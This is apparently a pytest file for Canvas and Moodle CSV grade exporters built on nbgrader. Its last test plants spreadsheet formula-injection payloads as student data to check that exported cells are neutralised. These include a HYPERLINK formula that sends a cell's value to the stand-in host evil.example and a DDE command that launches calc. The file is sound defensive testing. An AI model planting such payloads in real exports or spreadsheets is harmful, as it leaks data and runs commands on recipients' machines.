"""Grades exported by the real `nbgrader export`, read back with a real CSV reader."""

from __future__ import annotations

import csv
import subprocess
import sys
from datetime import datetime
from pathlib import Path

import pytest
from nbgrader.api import Gradebook, Student

from slopewise.environment import put_tools_on_path


@pytest.fixture
def gradebook_url(tmp_path: Path) -> str:
    """A gradebook with two lessons, a late learner, one without a submission, one odd name."""
    put_tools_on_path()
    url = f"sqlite:///{tmp_path / 'gradebook.db'}"
    with Gradebook(url, "slopewise") as gradebook:
        for name in ("01-first", "02-second"):
            gradebook.add_assignment(name, duedate=datetime(2026, 1, 1))
            gradebook.add_notebook(name, name)
            gradebook.add_grade_cell("a-check", name, name, max_score=20, cell_type="code")
        gradebook.add_student(
            "ada", first_name="Ada", last_name="Lovelace", email="ada@example.org"
        )
        gradebook.add_student("quo", first_name='Quo "Q"', last_name="Núñez, Jr", lms_user_id="77")
        gradebook.add_student("zoe")
        for student, score, penalty in (("ada", 17.25, 0.0), ("quo", 12.0, 15.0)):
            gradebook.add_submission("01-first", student)
            grade = gradebook.find_grade("a-check", "01-first", "01-first", student)
            grade.auto_score = score
            gradebook.db.commit()
            notebook = gradebook.find_submission_notebook("01-first", "01-first", student)
            notebook.late_submission_penalty = penalty
            gradebook.db.commit()
    return url


def export(url: str, plugin: str, folder: Path, *arguments: str) -> list[list[str]]:
    target = folder / "out.csv"
    subprocess.run(
        [
            *(sys.executable, "-m", "nbgrader", "export", f"--db={url}", f"--to={target}"),
            f"--exporter=slopewise.exports.{plugin}",
            *arguments,
        ],
        cwd=folder,
        check=True,
        capture_output=True,
    )
    raw = target.read_bytes()
    assert raw.endswith(b"\r\n")
    with target.open(encoding="utf-8", newline="") as file:
        return list(csv.reader(file))


def test_canvas_file_has_the_leading_columns_points_and_scores(
    gradebook_url: str, tmp_path: Path
) -> None:
    rows = export(gradebook_url, "CanvasExportPlugin", tmp_path)
    assert rows == [
        ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "01-first", "02-second"],
        ["Points Possible", "", "", "", "", "20", "20"],
        ["Lovelace, Ada", "", "", "ada", "", "17.25", ""],
        ['Núñez, Jr, Quo "Q"', "77", "", "quo", "", "0", ""],
        ["zoe", "", "", "zoe", "", "", ""],
    ]


def test_moodle_file_names_learners_three_ways(gradebook_url: str, tmp_path: Path) -> None:
    rows = export(
        gradebook_url, "MoodleExportPlugin", tmp_path, "--MoodleExportPlugin.missing=zero"
    )
    assert rows[0] == [
        *("Username", "ID number", "Email address", "First name", "Last name"),
        *("01-first (Points)", "02-second (Points)"),
    ]
    assert rows[1] == ["ada", "", "ada@example.org", "Ada", "Lovelace", "17.25", "0"]
    assert rows[2] == ["quo", "77", "", 'Quo "Q"', "Núñez, Jr", "0", "0"]
    assert rows[3] == ["zoe", "", "", "", "", "0", "0"]


def test_one_lesson_and_one_learner_can_be_asked_for(gradebook_url: str, tmp_path: Path) -> None:
    rows = export(
        gradebook_url,
        "CanvasExportPlugin",
        tmp_path,
        '--assignment=["02-second"]',
        '--student=["ada"]',
    )
    assert [row[0] for row in rows] == ["Student", "Points Possible", "Lovelace, Ada"]
    assert rows[0][5:] == ["02-second"]


def test_an_empty_gradebook_gives_a_header(tmp_path: Path) -> None:
    put_tools_on_path()
    url = f"sqlite:///{tmp_path / 'empty.db'}"
    Gradebook(url, "slopewise").close()
    rows = export(url, "MoodleExportPlugin", tmp_path)
    assert rows == [["Username", "ID number", "Email address", "First name", "Last name"]]


@pytest.mark.parametrize("plugin", ["CanvasExportPlugin", "MoodleExportPlugin"])
def test_no_cell_is_a_formula(gradebook_url: str, tmp_path: Path, plugin: str) -> None:
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    with Gradebook(gradebook_url, "slopewise") as gradebook:
        for student, last in (("mal", evil), ("wide", "\uff1d1+1"), ("late", " @SUM(1)")):
            gradebook.add_student(student, last_name=last, lms_user_id="-2+3", email="+49@e.org")
        # As an older edition let it in: past every rule for ids.
        gradebook.db.execute(
            Student.__table__.insert().values(id="=cmd|' /C calc'!A0", first_name="-1")
        )
        gradebook.db.commit()
    rows = export(gradebook_url, plugin, tmp_path)
    assert len(rows) >= 8
    cells = [cell for row in rows for cell in row]
    assert f"'{evil}" in cells
    assert not [one for one in cells if one.lstrip().startswith(("=", "+", "-", "@", "\uff1d"))]
